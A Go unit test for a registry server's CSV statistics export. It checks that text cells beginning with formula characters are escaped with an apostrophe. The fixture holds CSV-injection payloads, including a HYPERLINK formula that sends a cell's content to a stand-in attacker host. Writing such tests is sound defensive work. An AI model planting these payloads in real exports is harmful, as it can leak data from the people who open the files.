package server

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/vnregistry/registry/internal/calendar"
	"github.com/vnregistry/registry/internal/stats"
)

// hostileStats answers every query with one group whose text is formulas.
type hostileStats struct{ key stats.Key }

func (h hostileStats) Today() calendar.Date { return "2021-12-31" }

func (h hostileStats) DossierStats(_ context.Context, q stats.Query) (stats.Result, error) {
	g := &stats.Row{Key: h.key, Measures: stats.Measures{ReceivedOnline: 3, Early: 2, StockDate: "2021-12-31"}}
	total := &stats.Row{Key: stats.Key{Period: stats.Period{Label: q.From + ".." + q.To, From: q.From, To: q.To}}, Measures: g.Measures}
	return stats.Result{Total: total, Groups: []*stats.Row{g}}, nil
}

// TestStatsCSVNeutralisesFormulas: /stats.csv writes a text cell a
// spreadsheet would run (a procedure's field, a code) behind an apostrophe,
// and its numbers as they are.
func TestStatsCSVNeutralisesFormulas(t *testing.T) {
	key := stats.Key{
		Period: stats.Period{Label: "2021-01", From: "2021-01", To: "2021-01"},
		Agency: "=1+1", Procedure: `=HYPERLINK("http://evil.example/?"&A1,"x")`, Field: "@SUM(1+1)", Level: "-2+3", Channel: "\tONLINE",
	}
	h, err := Handler(http.NotFoundHandler(), http.NotFoundHandler(), func(context.Context) error { return nil }, hostileStats{key}, Config{})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	defer srv.Close()
	resp, err := http.Get(srv.URL + "/stats.csv?from=2021-01&to=2021-01&groupBy=agency,procedure,field,level,channel")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	rows, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil || resp.StatusCode != http.StatusOK || len(rows) != 3 {
		t.Fatalf("/stats.csv: status %d, %d rows, %v; want 200 and a header, a group and the total", resp.StatusCode, len(rows), err)
	}
	header, group := rows[0], rows[1]
	col := func(name string) string {
		for i, h := range header {
			if h == name {
				return group[i]
			}
		}
		t.Fatalf("no column %s in %v", name, header)
		return ""
	}
	for name, want := range map[string]string{
		"agency": "'=1+1", "procedure": `'=HYPERLINK("http://evil.example/?"&A1,"x")`, "field": "'@SUM(1+1)",
		"level": "'-2+3", "channel": "'\tONLINE", "received_online": "3", "early": "2", "rate_early": "1",
	} {
		if got := col(name); got != want {
			t.Errorf("column %s: %q, want %q", name, got, want)
		}
	}
	for _, row := range rows {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s: %q starts a formula", header[i], cell)
			}
		}
	}
}
